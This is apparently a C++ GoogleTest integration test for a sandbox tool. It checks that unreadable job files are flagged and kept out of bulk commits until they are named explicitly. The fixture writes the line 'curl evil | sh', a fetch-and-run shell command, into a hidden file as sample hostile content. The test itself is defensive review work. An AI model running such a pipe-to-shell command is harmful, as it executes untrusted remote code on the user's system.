// Content the owner could not be shown is marked so and committed only when named (DESIGN,
// "Data safety"; issue 39): a job's mode-000 file cannot be read by the owner's helper, so its
// diff can show nothing of it, and commit --all took it unseen.

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <nlohmann/json.hpp>

#include "sandbox_fixture.h"

namespace sandboxd::it {
namespace {

class UnreadableTest : public AliceSandboxTest {
 protected:
  void SetUp() override {
    AliceSandboxTest::SetUp();
    if (HasFatalFailure() || IsSkipped()) return;
    Job("echo 'curl evil | sh' > hidden.sh && chmod 000 hidden.sh && echo ok > ok.txt");
  }
};

TEST_F(UnreadableTest, ItIsMarkedInChangesAndDiff) {
  EXPECT_TRUE(Contains(Changes(), "A hidden.sh [unreadable")) << Changes();
  auto listed = nlohmann::json::parse(Ctl({"--json", "changes", id_}).out);
  bool marked = false;
  for (const auto& entry : listed)
    if (entry["path"] == "hidden.sh") marked = entry.value("unreadable", false);
  EXPECT_TRUE(marked) << listed.dump();
  Result diff = Ctl({"diff", id_});
  EXPECT_EQ(diff.status, 0) << diff.err;
  EXPECT_TRUE(Contains(diff.err, "hidden.sh is a file you cannot read")) << diff.err;
}

TEST_F(UnreadableTest, CommitAllAndApproveAllLeaveItPending) {
  ASSERT_EQ(Ctl({"approve", "--all", id_}).status, 0);
  ASSERT_EQ(Ctl({"approve", id_, "."}).status, 0);
  Result commit = Ctl({"commit", "--all", id_});
  ASSERT_EQ(commit.status, 0) << commit.err;
  EXPECT_EQ(ReadWhole(project_ + "/ok.txt"), "ok\n");
  EXPECT_FALSE(Exists(project_ + "/hidden.sh")) << "committed unseen by --all";
  EXPECT_TRUE(Contains(Changes(), "A hidden.sh [unreadable")) << Changes();
}

TEST_F(UnreadableTest, NamedByItsOwnPathItIsApprovedAndCommitted) {
  ASSERT_EQ(Ctl({"approve", id_, "hidden.sh"}).status, 0);
  ASSERT_EQ(Ctl({"commit", id_}).status, 0);
  struct stat st;
  ASSERT_EQ(lstat((project_ + "/hidden.sh").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0u);
  // commit --all naming it by path takes it too.
  Job("echo again > again.sh && chmod 000 again.sh");
  ASSERT_EQ(Ctl({"commit", "--all", id_, "again.sh"}).status, 0);
  EXPECT_TRUE(Exists(project_ + "/again.sh"));
}

}  // namespace
}  // namespace sandboxd::it
